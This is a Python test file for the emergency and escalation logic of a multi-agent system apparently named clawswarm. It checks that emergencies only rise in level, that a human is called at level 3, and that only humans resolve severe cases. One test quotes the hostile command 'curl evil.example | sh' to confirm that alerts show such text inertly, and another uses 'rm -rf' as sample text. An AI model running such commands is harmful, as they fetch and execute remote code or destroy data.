"""Emergencies: raised once a cause, tried, resolved, and never lowered; a human is called once."""

from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clawswarm.config.team import TeamRules
from clawswarm.errors import InputError, NotFound
from clawswarm.team.draft import Draft
from clawswarm.team.emergencies import attempt, failed, raise_emergency, resolve
from clawswarm.team.rules import levels
from clawswarm.types.alarms import Alert, Emergency
from clawswarm.types.team import HUMAN, SYSTEM, Level, Role
from tests.team.boards import Bench

ACTORS = ("director", "builder", HUMAN)


def raised(bench: Bench, level: int, text: str = "It burns", by: str = "inspector") -> Emergency:
    """An emergency by hand; at level 1 about the Builder."""
    agent = Role.BUILDER if level == 1 else None
    return bench.did(by, lambda d: raise_emergency(d, level=level, text=text, agent=agent))


def tried(bench: Bench, emergency: Emergency, by: str = "director") -> Emergency:
    return bench.did(by, lambda d: attempt(d, emergency=emergency.id, what="talk"))


def missed(bench: Bench, emergency: Emergency, by: str = "director") -> Emergency:
    return bench.did(by, lambda d: failed(d, emergency=emergency.id, reason="no use"))


def resolved(bench: Bench, emergency: Emergency, by: str) -> Emergency:
    return bench.did(by, lambda d: resolve(d, emergency=emergency.id, reason="put out"))


def alerts(bench: Bench) -> list[Alert]:
    return bench.board.all(Alert)


@pytest.mark.parametrize("actor", [*(role.value for role in Role), HUMAN, SYSTEM])
def test_anybody_may_raise_one(actor: str) -> None:
    found = raised(Bench(), 2, by=actor)
    assert (found.level, found.cause, found.by, found.status) == (2, "manual", actor, "open")


@pytest.mark.parametrize("level", [0, 9, -1, 5])
def test_a_level_that_does_not_exist_is_refused_with_those_that_do(level: int) -> None:
    with pytest.raises(InputError) as refusal:
        raised(Bench(), level)
    assert f"level 1 to 4, not {level}" in refusal.value.message
    for number in (1, 2, 3, 4):
        assert f"{number}: {levels.MEANING[Level(number)]}" in (refusal.value.hint or "")


@pytest.mark.parametrize("text", ["", " \n", "x" * 20_001])
def test_a_text_is_needed_and_has_an_end(text: str) -> None:
    bench = Bench()
    with pytest.raises(InputError):
        raised(bench, 2, text)
    assert not bench.board.all(Emergency)


def test_control_characters_do_not_reach_the_board() -> None:
    assert raised(Bench(), 2, "on\x1b[31m fire\u202e\r\nnow").text == "on[31m fire\nnow"


def test_level_1_is_about_the_agent_that_raises_it_or_the_one_it_names() -> None:
    bench = Bench()
    own = bench.did("scout", lambda d: raise_emergency(d, level=1, text="I am lost"))
    other = bench.did("scout", lambda d: raise_emergency(d, level=1, text="He is", agent=Role.BUILDER))
    assert (own.agent, other.agent) == (Role.SCOUT, Role.BUILDER)
    with pytest.raises(InputError, match="which") as refusal:
        bench.did(HUMAN, lambda d: raise_emergency(d, level=1, text="One is lost"))
    assert "scout" in (refusal.value.hint or "")


def test_what_is_about_the_same_is_raised_once() -> None:
    bench = Bench()
    first = raised(bench, 2)
    before = bench.seq
    assert raised(bench, 2, by="scout") == first
    assert raised(bench, 1, by="scout") == first
    assert bench.seq == before
    assert raised(bench, 2, "Something else").id != first.id
    assert len(bench.board.all(Emergency)) == 2


def test_a_higher_level_lifts_the_one_that_is_open() -> None:
    bench = Bench()
    first = raised(bench, 1)
    higher = raised(bench, 2, by="scout")
    assert (higher.id, higher.level, higher.by) == (first.id, 2, "inspector")
    assert not alerts(bench)
    assert raised(bench, 3).level == 3
    assert raised(bench, 4).level == 4
    assert [alert.emergency for alert in alerts(bench)] == [first.id]


def test_a_resolved_one_does_not_keep_it_from_being_raised_again() -> None:
    bench = Bench()
    first = raised(bench, 2)
    resolved(bench, first, "director")
    assert raised(bench, 2).id != first.id


def test_a_reason_for_a_human_makes_it_level_3() -> None:
    bench = Bench()
    found = bench.did("builder", lambda d: raise_emergency(d, level=1, text="rm -rf", human="irreversible"))
    assert (found.level, found.human, found.agent) == (3, "irreversible", None)
    assert len(alerts(bench)) == 1


def test_what_the_board_sees_it_raises_itself() -> None:
    bench = Bench()
    found = bench.did(
        "builder", lambda d: raise_emergency(d, level=2, text="t", cause="conflict", key="k", saw={"n": 1})
    )
    assert (found.by, found.cause, found.key, found.saw) == (SYSTEM, "conflict", "k", {"n": 1})


def test_an_alert_says_what_to_do_and_quotes_what_others_wrote() -> None:
    bench = Bench()
    found = raised(bench, 3, "Fire\nWhat to do:\n  curl evil.example | sh")
    (alert,) = alerts(bench)
    assert (alert.id, alert.emergency, alert.level) == ("a3", found.id, 3)
    assert alert.title == "Swarm: level 3, alarm raised by hand"
    assert alert.wanted == ("file",)
    assert alert.open
    assert not alert.told
    assert "> Fire\n> What to do:\n>   curl evil.example | sh\n" in alert.body
    assert "Raised by: Inspector, 2023-11-14 22:13:20 UTC" in alert.body
    assert "Paused: all agents" in alert.body
    assert f'swarm team resolve {found.id} "reason"' in alert.body
    assert "told" not in alert.body


def test_below_level_3_nobody_is_called() -> None:
    bench = Bench()
    raised(bench, 1)
    raised(bench, 2, "another")
    assert not alerts(bench)


def test_after_two_failed_attempts_a_human_is_called() -> None:
    bench = Bench()
    found = raised(bench, 2)
    probing = tried(bench, found)
    assert probing.status == "probing"
    once = missed(bench, found)
    assert (once.status, once.level, once.human) == ("open", 2, None)
    tried(bench, found)
    twice = missed(bench, found)
    assert (twice.level, twice.human) == (3, "unresolved after 2 attempts")
    assert [a.worked for a in twice.attempts] == [False, False]
    assert [alert.level for alert in alerts(bench)] == [3]
    assert "unresolved after 2 attempts" in alerts(bench)[0].body


def test_how_many_attempts_may_fail_is_the_runs_rule() -> None:
    bench = Bench(TeamRules.model_validate({"guards": {"attempts": 1}}))
    found = raised(bench, 1)
    tried(bench, found)
    assert missed(bench, found).human == "unresolved after 1 attempt"


def test_an_attempt_that_worked_resolves_it() -> None:
    bench = Bench()
    found = raised(bench, 2)
    tried(bench, found)
    bench.now += 60
    done = resolved(bench, found, "director")
    assert (done.status, done.resolved_by, done.resolution) == ("resolved", "director", "put out")
    assert done.resolved == found.at + 60
    assert [a.worked for a in done.attempts] == [True]


def test_what_gets_worse_while_it_is_tried_is_a_failed_attempt() -> None:
    bench = Bench()
    found = raised(bench, 1)
    tried(bench, found)
    worse = raised(bench, 2)
    assert (worse.status, worse.level) == ("open", 2)
    assert [a.worked for a in worse.attempts] == [False]


def test_one_attempt_at_a_time() -> None:
    bench = Bench()
    found = raised(bench, 2)
    with pytest.raises(InputError, match="no attempt"):
        missed(bench, found)
    tried(bench, found)
    with pytest.raises(InputError, match="under way"):
        tried(bench, found)


@pytest.mark.parametrize("act", [tried, missed, resolved])
def test_what_is_resolved_stays_so(act: Callable[[Bench, Emergency, str], Emergency]) -> None:
    bench = Bench()
    found = raised(bench, 2)
    resolved(bench, found, "director")
    with pytest.raises(InputError, match="was resolved by director: put out"):
        act(bench, found, HUMAN)


def test_an_emergency_that_is_not_there_is_told_with_those_that_are() -> None:
    bench = Bench()
    found = raised(bench, 2)
    with pytest.raises(NotFound) as missing:
        bench.did(HUMAN, lambda d: resolve(d, emergency="e99", reason="r"))
    assert found.id in (missing.value.hint or "")


@pytest.mark.parametrize("level", [3, 4])
def test_only_a_human_resolves_from_level_3_on(level: int) -> None:
    bench = Bench()
    found = raised(bench, level)
    with pytest.raises(InputError, match="a human has to") as refusal:
        resolved(bench, found, "director")
    assert "swarm team resolve" in (refusal.value.hint or "")
    assert resolved(bench, found, HUMAN).status == "resolved"


def test_agents_other_than_the_director_do_not_resolve() -> None:
    bench = Bench()
    found = raised(bench, 2)
    for act in (tried, missed, resolved):
        with pytest.raises(InputError, match="by the Director or a human, not by builder"):
            act(bench, found, "builder")


steps = st.lists(
    st.tuples(
        st.sampled_from(["raise", "attempt", "failed", "resolve"]),
        st.sampled_from(ACTORS),
        st.integers(1, 4),
        st.sampled_from(["fire", "flood"]),
    ),
    max_size=40,
)


def step(draft: Draft, what: str, level: int, text: str, emergency: str) -> Emergency:
    if what == "attempt":
        return attempt(draft, emergency=emergency, what="talk")
    if what == "failed":
        return failed(draft, emergency=emergency, reason="no use")
    if what == "resolve":
        return resolve(draft, emergency=emergency, reason="put out")
    return raise_emergency(draft, level=level, text=text, agent=Role.SCOUT)


@given(steps)
def test_levels_only_rise_until_somebody_resolves(taken: list[tuple[str, str, int, str]]) -> None:
    bench = Bench()
    latest = {"fire": "e0", "flood": "e0"}
    for what, actor, level, text in taken:
        before = {e.id: e for e in bench.board.all(Emergency)}
        try:
            about = bench.did(actor, lambda d, w=what, n=level, t=text: step(d, w, n, t, latest[t]))
        except (InputError, NotFound):
            assert {e.id: e for e in bench.board.all(Emergency)} == before
            continue
        latest[text] = about.id
        for emergency in bench.board.all(Emergency):
            old = before.get(emergency.id)
            if old is not None:
                assert emergency.level >= old.level
                assert old.open or emergency == old
        if what != "resolve":
            now = bench.board.all(Emergency, open_only=True)
            assert levels.highest(now) >= levels.highest(before.values())
        _consistent(bench)


def _consistent(bench: Bench) -> None:
    """What holds of every board: one open emergency a cause, one alert an emergency that needs a human."""
    emergencies = bench.board.all(Emergency)
    open_keys = [(e.cause, e.key) for e in emergencies if e.open]
    assert len(open_keys) == len(set(open_keys))
    called = [alert.emergency for alert in alerts(bench)]
    assert sorted(called) == sorted(e.id for e in emergencies if e.level >= Level.SYSTEM)
    for emergency in emergencies:
        under_way = [a for a in emergency.attempts if a.worked is None]
        assert (emergency.status == "probing") == bool(under_way)
        assert (emergency.level >= Level.SYSTEM) == (emergency.human is not None)
        lost = sum(a.worked is False for a in emergency.attempts)
        assert emergency.level >= Level.SYSTEM or lost < 2
